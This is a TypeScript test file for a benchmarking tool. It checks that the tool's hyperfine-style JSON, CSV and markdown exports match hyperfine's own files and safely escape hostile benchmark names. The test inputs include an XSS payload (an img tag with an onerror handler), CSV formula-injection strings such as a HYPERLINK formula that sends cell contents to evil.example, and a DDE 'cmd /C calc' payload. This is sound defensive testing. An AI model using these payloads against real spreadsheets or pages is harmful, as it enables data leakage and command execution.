// The exports in hyperfine's layouts (--export-json, --export-markdown, --export-csv) checked against
// the files the real hyperfine writes: hyperfine and bench-action measure the same real programs, and
// ours must have hyperfine's fields, types, units and columns, read by a consumer written against
// hyperfine's files. No assertion depends on how fast this machine ran anything.
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import { promisify } from 'node:util'
import { readInputs } from '../../../src/action/main.ts'
import { csvField, plainNumber, spreadsheetField } from '../../../src/export/csv.ts'
import {
  type HyperfineResult,
  hyperfineCsv,
  hyperfineExport,
  hyperfineMarkdown,
} from '../../../src/export/index.ts'
import { timeUnitFor } from '../../../src/export/markdown.ts'
import { type BenchmarkResult, type Metric, parseResultSetText } from '../../../src/results.ts'
import { elementOutline, renderGfm, textRuns, tokenizeHtml } from '../../support/gfm.ts'
import { cli, gitRepo, removeDir, repoRoot, resultSetOf, tempDir } from '../../support/helpers.ts'
import { needs } from '../../support/needs.ts'

const run = promisify(execFile)
const RUNS = 5

/** A name with everything that could break a table, a CSV row or a comment. */
const HOSTILE = 'x|y, "q" `tick` <img src=x onerror=alert(1)> @octocat **b** [l](https://evil.example) \\|'

// ---------------------------------------------------------------------------------------------------
// Readers written against hyperfine's files, as scripts that consume them are.

interface HyperfineFile {
  results: Array<Record<string, unknown>>
}

/** numpy's default percentile (linear between closest ranks). */
function percentile(values: readonly number[], p: number): number {
  const sorted = [...values].sort((a, b) => a - b)
  const rank = (p / 100) * (sorted.length - 1)
  const low = Math.floor(rank)
  const high = Math.ceil(rank)
  return sorted[low]! + (sorted[high]! - sorted[low]!) * (rank - low)
}

/**
 * hyperfine's scripts/advanced_statistics.py, rewritten: each command's statistics from its `times`,
 * in seconds. It reads `results[].command` and `results[].times`, nothing else.
 */
function advancedStatistics(file: HyperfineFile) {
  return file.results.map((b) => {
    const command = b.command as string
    const ts = b.times as number[]
    const mean = ts.reduce((s, t) => s + t, 0) / ts.length
    const stddev = Math.sqrt(ts.reduce((s, t) => s + (t - mean) ** 2, 0) / (ts.length - 1))
    return {
      command,
      mean,
      stddev,
      median: percentile(ts, 50),
      min: Math.min(...ts),
      max: Math.max(...ts),
      iqr: percentile(ts, 75) - percentile(ts, 25),
    }
  })
}

/** A CSV reader as RFC 4180 describes it: quoted fields may hold commas, quotes (doubled) and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(field)
      field = ''
    } else if (c === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
    } else field += c
  }
  assert.equal(field, '', 'the last line ends with a newline')
  return rows
}

/** The cells of each row of the first table, as GitHub renders them. */
function renderedTable(html: string): string[][] {
  const rows: string[][] = []
  let row: string[] | undefined
  let cell: string | undefined
  for (const t of tokenizeHtml(html)) {
    if (t.type === 'start' && t.name === 'tr') row = []
    else if (t.type === 'end' && t.name === 'tr') {
      rows.push(row!)
      row = undefined
    } else if (t.type === 'start' && (t.name === 'td' || t.name === 'th')) cell = ''
    else if (t.type === 'end' && (t.name === 'td' || t.name === 'th')) {
      row!.push(cell!)
      cell = undefined
    } else if (t.type === 'text' && cell !== undefined) cell += t.text
  }
  return rows
}

function near(actual: number, expected: number, what: string): void {
  assert.ok(
    Math.abs(actual - expected) <= 1e-12 + 1e-9 * Math.abs(expected),
    `${what}: ${actual} is not ${expected}`,
  )
}

// ---------------------------------------------------------------------------------------------------

const dirs: string[] = []
after(async () => {
  for (const d of dirs) await removeDir(d)
})

const [hyperfine, gfm] = await Promise.all([needs('hyperfine'), needs('cmark-gfm')])

hyperfine.describe("a run exported in hyperfine's layouts, beside hyperfine's own files", () => {
  let dir: string
  let theirs: { json: HyperfineFile; csv: string; markdown: string }
  let ours: { json: HyperfineFile; csv: string; markdown: string; stderr: string; code: number }
  let recorded: ReturnType<typeof parseResultSetText>

  before(async () => {
    dir = await gitRepo({
      'bench.yml': `suite: exports
defaults:
  runs: ${RUNS}
  warmup: 1
setup:
  - [cc, -O2, -o, work, ${path.join(repoRoot, 'examples/process/work.c')}]
benchmarks:
  - name: sleep
    kind: process
    command: [sleep, "0.01"]
  - name: start
    kind: process
    command: [./work, start]
  - name: ${JSON.stringify(HOSTILE)}
    kind: process
    command: [./work, hash, "100000"]
  - name: fails
    kind: process
    command: [/bin/false]
`,
    })
    dirs.push(dir)
    const result = await cli(
      [
        'run',
        '--no-save',
        '--json',
        'results.json',
        '--export-json',
        'ours/h.json',
        '--export-csv',
        'ours/h.csv',
        '--export-markdown',
        'ours/h.md',
      ],
      dir,
    )
    // The failing benchmark makes the run exit 3; the others are measured and exported.
    assert.equal(result.code, 3, result.stderr)
    recorded = parseResultSetText(await readFile(path.join(dir, 'results.json'), 'utf8'), 'results.json')
    ours = {
      json: JSON.parse(await readFile(path.join(dir, 'ours/h.json'), 'utf8')),
      csv: await readFile(path.join(dir, 'ours/h.csv'), 'utf8'),
      markdown: await readFile(path.join(dir, 'ours/h.md'), 'utf8'),
      stderr: result.stderr,
      code: result.code,
    }
    // hyperfine on the same programs (work was built by the run's setup step).
    await run(
      'hyperfine',
      [
        '-N',
        '--style',
        'none',
        '--runs',
        String(RUNS),
        '--warmup',
        '1',
        '--export-json',
        'theirs.json',
        '--export-csv',
        'theirs.csv',
        '--export-markdown',
        'theirs.md',
        'sleep 0.01',
        './work start',
        './work hash 100000',
      ],
      { cwd: dir },
    )
    theirs = {
      json: JSON.parse(await readFile(path.join(dir, 'theirs.json'), 'utf8')),
      csv: await readFile(path.join(dir, 'theirs.csv'), 'utf8'),
      markdown: await readFile(path.join(dir, 'theirs.md'), 'utf8'),
    }
  })

  test('JSON: a result per benchmark that ran, with exactly the keys and types hyperfine writes', () => {
    assert.deepEqual(Object.keys(ours.json), Object.keys(theirs.json))
    assert.deepEqual(
      ours.json.results.map((r) => r.command),
      ['sleep', 'start', HOSTILE],
    )
    const reference = theirs.json.results[0]!
    for (const result of ours.json.results) {
      // hyperfine 1.20 adds memory_usage_byte after times; 1.15 (the one installed here) does not.
      assert.deepEqual(
        Object.keys(result).filter((k) => k !== 'memory_usage_byte'),
        Object.keys(reference),
      )
      assert.deepEqual(Object.keys(result).slice(Object.keys(result).indexOf('times'), -1), [
        'times',
        'memory_usage_byte',
      ])
      for (const [key, value] of Object.entries(reference)) {
        assert.equal(typeof result[key], typeof value, key)
        assert.equal(Array.isArray(result[key]), Array.isArray(value), key)
      }
      const times = result.times as number[]
      assert.equal(times.length, RUNS)
      assert.ok(times.every((t) => typeof t === 'number' && t > 0))
      assert.deepEqual(result.exit_codes, Array(RUNS).fill(0))
      const memory = result.memory_usage_byte as number[]
      assert.equal(memory.length, RUNS)
      assert.ok(memory.every((m) => Number.isInteger(m) && m > 0))
    }
  })

  test('JSON: seconds, from the same runs the results file holds in ns', () => {
    for (const result of ours.json.results) {
      const b = recorded.benchmarks.find((x) => x.id === result.command)!
      const times = result.times as number[]
      assert.deepEqual(
        times.map((t) => Math.round(t * 1e9)),
        b.metrics.wall!.samples!.map(Math.round),
      )
      const mean = (xs: number[]) => xs.reduce((s, x) => s + x, 0) / xs.length
      near(result.mean as number, mean(times), 'mean')
      near(result.user as number, mean(b.metrics.user!.samples!) / 1e9, 'user')
      near(result.system as number, mean(b.metrics.sys!.samples!) / 1e9, 'system')
      assert.equal(result.min, Math.min(...times))
      assert.equal(result.max, Math.max(...times))
      assert.deepEqual(result.memory_usage_byte, b.metrics['max-rss']!.samples)
      // A 10 ms sleep takes at least 10 ms: seconds, not ns or ms.
      if (result.command === 'sleep') assert.ok((result.min as number) >= 0.01 && (result.min as number) < 10)
    }
  })

  test("JSON: a consumer of hyperfine's files (advanced_statistics.py) reads ours and agrees with its fields", () => {
    for (const file of [theirs.json, ours.json]) {
      const stats = advancedStatistics(file)
      assert.equal(stats.length, 3)
      for (const [i, s] of stats.entries()) {
        const r = file.results[i]!
        near(s.mean, r.mean as number, `${s.command} mean`)
        near(s.stddev, r.stddev as number, `${s.command} stddev`)
        near(s.median, r.median as number, `${s.command} median`)
        assert.equal(s.min, r.min)
        assert.equal(s.max, r.max)
        assert.ok(s.iqr >= 0)
      }
    }
  })

  test('the failing benchmark is left out, and the run says so', () => {
    assert.ok(!ours.json.results.some((r) => r.command === 'fails'))
    assert.match(ours.stderr, /exports in hyperfine's layout leave out 1 benchmark: "fails" \(failed\)/)
  })

  test("CSV: hyperfine's header, a row per result, the hostile name read back whole", () => {
    const mine = parseCsv(ours.csv)
    const reference = parseCsv(theirs.csv)
    assert.deepEqual(mine[0], reference[0])
    assert.deepEqual(mine[0], ['command', 'mean', 'stddev', 'median', 'user', 'system', 'min', 'max'])
    assert.deepEqual(
      mine.slice(1).map((row) => row[0]),
      ['sleep', 'start', HOSTILE],
    )
    for (const [i, row] of mine.slice(1).entries()) {
      assert.equal(row.length, mine[0]!.length)
      const json = ours.json.results[i]!
      for (const [c, column] of mine[0]!.entries())
        if (c > 0) assert.equal(Number(row[c]), json[column], `${json.command} ${column}`)
      assert.ok(
        row.slice(1).every((field) => /^\d+(\.\d+)?$/.test(field)),
        row.join(','),
      )
    }
  })

  test("markdown: hyperfine's columns", () => {
    const mine = ours.markdown.split('\n')
    const reference = theirs.markdown.split('\n')
    const header = /^\| Command \| Mean \[(s|ms|µs)\] \| Min \[\1\] \| Max \[\1\] \| Relative \|$/
    assert.match(mine[0]!, header)
    assert.match(reference[0]!, header)
    assert.equal(mine[1], reference[1])
    assert.equal(mine.length, reference.length, 'a line per result and the trailing newline')
  })

  gfm.test('markdown: GitHub renders the hostile name as text in its own cell', async () => {
    const html = await renderGfm(ours.markdown)
    const table = renderedTable(html)
    assert.deepEqual(
      table.map((row) => row.length),
      [5, 5, 5, 5],
    )
    assert.deepEqual(
      table.slice(1).map((row) => row[0]),
      ['sleep', 'start', HOSTILE],
    )
    // The same elements as hyperfine's own table; the names are code.
    const theirsHtml = await renderGfm(theirs.markdown)
    assert.deepEqual(elementOutline(html), elementOutline(theirsHtml))
    for (const r of textRuns(tokenizeHtml(html)))
      if (r.text.includes('@')) assert.ok(r.within.includes('code'), `a mention outside code: ${r.text}`)
    // The fastest reads 1.00; every other result is relative to it, with a spread.
    const relative = table.slice(1).map((row) => row[4]!)
    assert.equal(relative.filter((r) => r === '1.00').length, 1)
    for (const r of relative) assert.match(r, /^\d+\.\d{2}( ± \d+\.\d{2})?$/)
  })
})

describe('merge and compare export the run they report on', () => {
  test('merge exports the merged run', async () => {
    const dir = await gitRepo({
      'bench.yml': `suite: merged
defaults:
  runs: 3
  warmup: 0
benchmarks:
  - name: "true"
    kind: process
    command: [/bin/true]
`,
    })
    dirs.push(dir)
    const shard = await cli(['run', '--shard', '1/1', '--shard-output', 'shard.json', '--no-save'], dir)
    assert.equal(shard.code, 0, shard.stderr)
    const merged = await cli(['merge', 'shard.json', '--no-save', '--export-csv', 'm.csv'], dir)
    assert.equal(merged.code, 0, merged.stderr)
    const rows = parseCsv(await readFile(path.join(dir, 'm.csv'), 'utf8'))
    assert.deepEqual(
      rows.map((r) => r[0]),
      ['command', 'true'],
    )
  })

  test('compare exports its HEAD file', async () => {
    const dir = await tempDir('export')
    dirs.push(dir)
    const set = (value: number) => setOf([processResult('p', [value, value * 2, value * 3])])
    await writeFile(path.join(dir, 'base.json'), JSON.stringify(set(1e6)))
    await writeFile(path.join(dir, 'head.json'), JSON.stringify(set(2e6)))
    const result = await cli(['compare', 'base.json', 'head.json', '--export-json', 'h.json'], dir)
    assert.ok(result.code === 0 || result.code === 1, result.stderr)
    const exported = JSON.parse(await readFile(path.join(dir, 'h.json'), 'utf8')) as HyperfineFile
    assert.deepEqual(exported.results[0]!.times, [0.002, 0.004, 0.006])
  })
})

// ---------------------------------------------------------------------------------------------------
// The layouts from results built by hand: every kind, parameters, and hyperfine's own numbers.

function processResult(
  id: string,
  wall: number[],
  extra: Partial<BenchmarkResult> = {},
  metrics: Record<string, Metric> = {},
): BenchmarkResult {
  return {
    id,
    name: id,
    kind: 'process',
    parameters: {},
    status: 'ok',
    metrics: { wall: { unit: 'ns', direction: 'lower', samples: wall }, ...metrics },
    gate: { metrics: ['wall'], threshold: 0.05, alpha: 0.01 },
    notes: [],
    ...extra,
  }
}

function setOf(benchmarks: BenchmarkResult[]) {
  return resultSetOf('s', { sha: 'abcdef0' }, '2026-01-01T00:00:00.000Z', benchmarks)
}

hyperfine.describe("hyperfine's own numbers through our layouts", () => {
  let dir: string
  let theirs: { json: HyperfineFile; csv: string; markdown: string }
  before(async () => {
    dir = await tempDir('hyperfine')
    dirs.push(dir)
    // The first command decides the unit: a 10 ms sleep reads in ms, as it does for hyperfine 1.15.
    await run(
      'hyperfine',
      [
        '-N',
        '--style',
        'none',
        '--runs',
        '4',
        '-L',
        'delay',
        '0.01,0.02',
        '--export-json',
        'p.json',
        '--export-csv',
        'p.csv',
        '--export-markdown',
        'p.md',
        'sleep {delay}',
      ],
      { cwd: dir },
    )
    theirs = {
      json: JSON.parse(await readFile(path.join(dir, 'p.json'), 'utf8')),
      csv: await readFile(path.join(dir, 'p.csv'), 'utf8'),
      markdown: await readFile(path.join(dir, 'p.md'), 'utf8'),
    }
  })

  test('the same runs give the same mean, stddev, median, min and max', () => {
    const benchmarks = theirs.json.results.map((r, i) =>
      processResult(
        `r${i}`,
        (r.times as number[]).map((t) => t * 1e9),
      ),
    )
    const { results } = hyperfineExport(setOf(benchmarks))
    for (const [i, ours] of results.entries()) {
      const reference = theirs.json.results[i]!
      for (const key of ['mean', 'stddev', 'median', 'min', 'max'] as const)
        near(ours[key] as number, reference[key] as number, key)
    }
  })

  test("the CSV and markdown of hyperfine's results are byte for byte hyperfine's", () => {
    const results = theirs.json.results as unknown as HyperfineResult[]
    assert.equal(hyperfineCsv(results), theirs.csv)
    const unit = timeUnitFor(results[0]!.mean).label
    // hyperfine 1.15 shows every time below a second in ms; from a millisecond up the units agree.
    if (unit === 'ms') assert.equal(hyperfineMarkdown(results), theirs.markdown)
  })

  test('parameters: the JSON object and the CSV columns of hyperfine -L', () => {
    const benchmarks = theirs.json.results.map((r, i) =>
      processResult(
        `sleep/delay:${i}`,
        (r.times as number[]).map((t) => t * 1e9),
        {
          parameters: { delay: Number((r.parameters as Record<string, string>).delay) },
        },
      ),
    )
    const { results } = hyperfineExport(setOf(benchmarks))
    assert.deepEqual(
      results.map((r) => r.parameters),
      theirs.json.results.map((r) => r.parameters),
    )
    assert.equal(hyperfineCsv(results).split('\n', 1)[0], theirs.csv.split('\n', 1)[0])
  })
})

describe('what each kind exports', () => {
  const ns = (samples: number[]): Metric => ({ unit: 'ns', direction: 'lower', samples })

  test('timed kinds are exported, counts, throughputs and failures left out with the reason', () => {
    const base = processResult('x', [1])
    const benchmarks: BenchmarkResult[] = [
      processResult('proc', [1e6, 3e6], {}, { user: ns([2e5, 4e5]), sys: ns([1e5, 1e5]) }),
      { ...base, id: 'wc', name: 'wc', kind: 'wall-clock', metrics: { time: ns([100, 300]) } },
      {
        ...base,
        id: 'hf',
        name: 'hf',
        kind: 'import',
        metrics: {
          time: ns([1e9, 3e9]),
          user: { unit: 'ns', direction: 'lower', summary: { center: 5e8, statistic: 'mean', n: 2 } },
          memory: { unit: 'bytes', direction: 'lower', samples: [1024, 2048] },
        },
      },
      {
        ...base,
        id: 'summary',
        name: 'summary',
        kind: 'import',
        metrics: { time: { unit: 'ns', direction: 'lower', summary: { center: 5, statistic: 'median' } } },
      },
      {
        ...base,
        id: 'ir',
        name: 'ir',
        kind: 'instructions',
        metrics: { Ir: { unit: 'instructions', direction: 'lower', value: 1000 } },
      },
      {
        ...base,
        id: 'sc/threads:2',
        name: 'sc',
        kind: 'scaling',
        parameters: { threads: 2 },
        metrics: { throughput: { unit: 'ops/s', direction: 'higher', samples: [10, 20] } },
      },
      { ...base, id: 'broken', name: 'broken', status: 'failed', error: { message: 'exited with code 1' } },
    ]
    const { results, leftOut } = hyperfineExport(setOf(benchmarks))
    assert.deepEqual(
      results.map((r) => [r.command, r.times, r.user, r.system, r.memory_usage_byte]),
      [
        ['proc', [0.001, 0.003], 0.0003, 0.0001, undefined],
        ['wc', [1e-7, 3e-7], 0, 0, undefined],
        ['hf', [1, 3], 0.5, 0, [1024, 2048]],
      ],
    )
    assert.deepEqual(
      leftOut.map((l) => l.id),
      ['summary', 'ir', 'sc/threads:2', 'broken'],
    )
    assert.match(leftOut[0]!.reason, /summary/)
    assert.match(leftOut[1]!.reason, /instruction counts/)
    assert.match(leftOut[2]!.reason, /throughputs/)
    assert.equal(leftOut[3]!.reason, 'failed')
  })

  test('one run: a null stddev in the JSON, 0 in the CSV, no ± in the table, as hyperfine writes them', () => {
    const { results } = hyperfineExport(setOf([processResult('one', [5e5])]))
    assert.equal(results[0]!.stddev, null)
    assert.equal(hyperfineCsv(results).split('\n')[1], 'one,0.0005,0,0.0005,0,0,0.0005,0.0005')
    assert.equal(hyperfineMarkdown(results).split('\n')[2], '| `one` | 500.0 | 500.0 | 500.0 | 1.00 |')
  })

  test('parameters differing between benchmarks: every name a column, empty where a result has none', () => {
    const { results } = hyperfineExport(
      setOf([
        processResult('a/n:1', [1e6], { parameters: { n: 1 } }),
        processResult('b', [1e6]),
        processResult('c/m:x', [1e6], { parameters: { m: 'x,y' } }),
      ]),
    )
    const rows = parseCsv(hyperfineCsv(results))
    assert.deepEqual(rows[0]!.slice(8), ['parameter_m', 'parameter_n'])
    assert.deepEqual(
      rows.slice(1).map((r) => r.slice(8)),
      [
        ['', '1'],
        ['', ''],
        ['x,y', ''],
      ],
    )
  })
})

describe('numbers and fields', () => {
  test('numbers are written with every digit and no exponent, as Rust prints an f64', () => {
    assert.equal(plainNumber(1e-7), '0.0000001')
    assert.equal(plainNumber(1.5e-9), '0.0000000015')
    assert.equal(plainNumber(-2.5e-7), '-0.00000025')
    assert.equal(plainNumber(1e21), '1000000000000000000000')
    assert.equal(plainNumber(0.0007511196000000002), '0.0007511196000000002')
    assert.equal(plainNumber(0), '0')
    assert.equal(Number(plainNumber(1.234567e-8)), 1.234567e-8)
  })

  test('fields are quoted as RFC 4180 says, only where they must be', () => {
    assert.equal(csvField('plain name'), 'plain name')
    assert.equal(csvField('a,b'), '"a,b"')
    assert.equal(csvField('say "hi"'), '"say ""hi"""')
    assert.equal(csvField('two\nlines'), '"two\nlines"')
    assert.deepEqual(parseCsv(`${['a,b', 'say "hi"', 'two\r\nlines'].map(csvField).join(',')}\n`), [
      ['a,b', 'say "hi"', 'two\r\nlines'],
    ])
  })

  test("the table's unit is the first result's, as hyperfine picks it", () => {
    assert.equal(timeUnitFor(2).label, 's')
    assert.equal(timeUnitFor(1).label, 's')
    assert.equal(timeUnitFor(0.999).label, 'ms')
    assert.equal(timeUnitFor(0.001).label, 'ms')
    assert.equal(timeUnitFor(0.0005).label, 'µs')
    const results = hyperfineExport(
      setOf([processResult('slow', [2e9, 2e9]), processResult('fast', [1e9, 1e9])]),
    ).results
    assert.deepEqual(hyperfineMarkdown(results).split('\n'), [
      '| Command | Mean [s] | Min [s] | Max [s] | Relative |',
      '|:---|---:|---:|---:|---:|',
      '| `slow` | 2.000 ± 0.000 | 2.000 | 2.000 | 2.00 ± 0.00 |',
      '| `fast` | 1.000 ± 0.000 | 1.000 | 1.000 | 1.00 |',
      '',
    ])
  })
})

describe('cells a spreadsheet would evaluate as a formula', () => {
  /** Names and parameter values a spreadsheet reads as formulas (OWASP's list: =, +, -, @, tab, CR). */
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\0=1+1',
  ]
  /** Cells a spreadsheet reads as numbers: a parameter scan's values. */
  const NUMBERS = ['-1', '-2.5', '+3', '0', '-0.5e-3', '.5']

  const exported = (name: string, n: string): HyperfineResult => ({
    command: name,
    mean: 0.001,
    stddev: 0,
    median: 0.001,
    user: 0,
    system: 0,
    min: 0.001,
    max: 0.001,
    times: [0.001],
    exit_codes: [0],
    parameters: { n },
  })

  test('a name or parameter value that starts a formula gets a single quote before it; numbers stay numbers', () => {
    const results = [
      ...FORMULAS.map((f) => exported(f, f)),
      ...NUMBERS.map((n) => exported(`scan n=${n}`, n)),
      exported('a;=1+1', 'tab\t=1'),
    ]
    const rows = parseCsv(hyperfineCsv(results))
    assert.deepEqual(rows[0], [...rows[0]!.slice(0, 8), 'parameter_n'])
    assert.deepEqual(
      rows.slice(1).map((r) => [r[0], r[8]]),
      [
        ...FORMULAS.map((f) => [`'${f}`, `'${f}`]),
        ...NUMBERS.map((n) => [`scan n=${n}`, n]),
        ['a;=1+1', 'tab\t=1'],
      ],
    )
    // The numbers of the timing columns are never touched, a negative one included.
    assert.equal(
      hyperfineCsv([{ ...exported('x', '1'), mean: -0.5 }])
        .split('\n')[1]!
        .split(',')[1],
      '-0.5',
    )
    // Written as: quoted where RFC 4180 says, and where a cell holds ; or a tab (a spreadsheet may split
    // on them, and would then read what follows as a new cell).
    assert.equal(spreadsheetField('=1+1'), "'=1+1")
    assert.equal(spreadsheetField('-1'), '-1')
    assert.equal(spreadsheetField('-1+1'), "'-1+1")
    assert.equal(spreadsheetField('a;=1+1'), '"a;=1+1"')
    assert.equal(spreadsheetField('a\t=1+1'), '"a\t=1+1"')
    assert.equal(spreadsheetField('\r=1'), `"'\r=1"`)
    assert.equal(spreadsheetField('=A1,"x"'), `"'=A1,""x"""`)
    assert.equal(spreadsheetField('plain name'), 'plain name')
  })

  test('raw: every cell as hyperfine writes it, formulas and all', () => {
    const results = [...FORMULAS, ...NUMBERS, 'a;=1+1'].map((f) => exported(f, f))
    const rows = parseCsv(hyperfineCsv(results, { raw: true }))
    assert.deepEqual(
      rows.slice(1).map((r) => [r[0], r[8]]),
      [...FORMULAS, ...NUMBERS, 'a;=1+1'].map((f) => [f, f]),
    )
    // Quoted only where RFC 4180 says: a formula without a comma, a quote or a line break is bare.
    assert.equal(
      hyperfineCsv([exported('=1+1', '@SUM(1;1)')], { raw: true })
        .split('\n')[1]!
        .split(',')[0],
      '=1+1',
    )
  })

  hyperfine.test(
    "hyperfine's own CSV of formula names and a negative parameter: raw byte for byte, neutralised but for the quotes",
    async () => {
      const dir = await tempDir('hyperfine-formulas')
      dirs.push(dir)
      const names = ['=1+1', '-2+3', '\t=1', 'a;=1', '@SUM(1,1)', 'plain']
      await run(
        'hyperfine',
        [
          ...['-N', '--style', 'none', '--runs', '2', '-L', 'n', '-1,=2'],
          ...['--export-json', 'f.json', '--export-csv', 'f.csv'],
          ...names.map((name) => `--command-name=${name}`),
          ...['true {n} a', 'true {n} b', 'true {n} c'],
        ],
        { cwd: dir },
      )
      const theirs = {
        json: JSON.parse(await readFile(path.join(dir, 'f.json'), 'utf8')) as HyperfineFile,
        csv: await readFile(path.join(dir, 'f.csv'), 'utf8'),
      }
      const results = theirs.json.results as unknown as HyperfineResult[]
      assert.deepEqual(
        results.map((r) => r.command),
        names,
      )
      assert.deepEqual(new Set(results.map((r) => r.parameters?.n)), new Set(['-1', '=2']))
      assert.equal(hyperfineCsv(results, { raw: true }), theirs.csv)
      const neutralised = parseCsv(hyperfineCsv(results))
      assert.deepEqual(
        neutralised.slice(1).map((r) => [r[0], r[8]]),
        results.map((r) => [
          /^[=+\-@\t]/.test(r.command) ? `'${r.command}` : r.command,
          r.parameters?.n === '-1' ? '-1' : "'=2",
        ]),
      )
      // The timing columns are hyperfine's, cell for cell.
      assert.deepEqual(
        neutralised.map((r) => r.slice(1, 8)),
        parseCsv(theirs.csv).map((r) => r.slice(1, 8)),
      )
    },
  )

  test('--export-csv and --export-csv-raw from one run: a formula name, a scan over negative values', async () => {
    const dir = await gitRepo({
      'bench.yml': `suite: formulas
defaults: { runs: 2, warmup: 0 }
benchmarks:
  - { name: "=HYPERLINK(\\"https://evil.example\\")", kind: process, command: [/bin/true] }
  - { name: "@SUM(1;1)", kind: process, command: [/bin/true] }
  - name: scan
    kind: process
    command: [/bin/true, "{n}"]
    parameters: { n: { from: -2, to: 0 } }
`,
    })
    dirs.push(dir)
    const r = await cli(['run', '--no-save', '--export-csv', 'n.csv', '--export-csv-raw', 'r.csv'], dir)
    assert.equal(r.code, 0, r.stderr)
    const cells = async (file: string) =>
      parseCsv(await readFile(path.join(dir, file), 'utf8')).map((row) => [row[0], row[8]])
    const raw = await cells('r.csv')
    assert.deepEqual(raw, [
      ['command', 'parameter_n'],
      ['=HYPERLINK("https://evil.example")', ''],
      ['@SUM(1;1)', ''],
      ...['-2', '-1', '0'].map((n) => [`scan/n:${n}`, n]),
    ])
    assert.deepEqual(await cells('n.csv'), [
      ['command', 'parameter_n'],
      [`'=HYPERLINK("https://evil.example")`, ''],
      ["'@SUM(1;1)", ''],
      ...['-2', '-1', '0'].map((n) => [`scan/n:${n}`, n]),
    ])
  })
})

gfm.describe('every hostile name in the markdown export', () => {
  const names = readFileSync(
    path.join(import.meta.dirname, '..', '..', 'fixtures', 'hostile', 'names.txt'),
    'utf8',
  )
    .split('\n')
    .filter((l) => l !== '')
    .map((line) =>
      line.replace(/\\(u\{([0-9a-fA-F]+)\}|[nrt\\])/g, (_, what: string, hex?: string) => {
        if (hex) return String.fromCodePoint(Number.parseInt(hex, 16))
        return what === 'n' ? '\n' : what === 'r' ? '\r' : what === 't' ? '\t' : '\\'
      }),
    )

  test('renders as the harmless name does: one table, the name as code in its own cell', async () => {
    const harmless = await renderGfm(
      hyperfineMarkdown(hyperfineExport(setOf([processResult('harmless', [1e6, 2e6])])).results),
    )
    for (const name of names) {
      const markdown = hyperfineMarkdown(hyperfineExport(setOf([processResult(name, [1e6, 2e6])])).results)
      const html = await renderGfm(markdown)
      assert.deepEqual(elementOutline(html), elementOutline(harmless), JSON.stringify(name))
      const cell = renderedTable(html)[1]![0]!
      // The name as it is, on one line (⏎ for a line break) and with bidi controls shown as U+FFFD.
      const shown = name
        .replace(/\r\n|\r|\n/g, '⏎')
        .replace(/\0/g, '\ufffd')
        .replace(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g, '\ufffd')
      assert.equal(cell.trim(), shown.trim(), JSON.stringify(name))
    }
  })
})

describe('the action', () => {
  test('export-json, export-markdown, export-csv and export-csv-raw are read as the paths of the exports', () => {
    const names = ['export-json', 'export-markdown', 'export-csv', 'export-csv-raw'] as const
    const variable = (name: string) => `INPUT_${name.toUpperCase()}`
    const saved = names.map((n) => [variable(n), process.env[variable(n)]] as const)
    try {
      for (const n of names) delete process.env[variable(n)]
      assert.deepEqual(readInputs({ GITHUB_WORKSPACE: '/w' }).exports, {
        json: undefined,
        markdown: undefined,
        csv: undefined,
        csvRaw: undefined,
      })
      for (const n of names) process.env[variable(n)] = `out/${n}`
      assert.deepEqual(readInputs({ GITHUB_WORKSPACE: '/w' }).exports, {
        json: 'out/export-json',
        markdown: 'out/export-markdown',
        csv: 'out/export-csv',
        csvRaw: 'out/export-csv-raw',
      })
    } finally {
      for (const [key, value] of saved) {
        if (value === undefined) delete process.env[key]
        else process.env[key] = value
      }
    }
  })
})
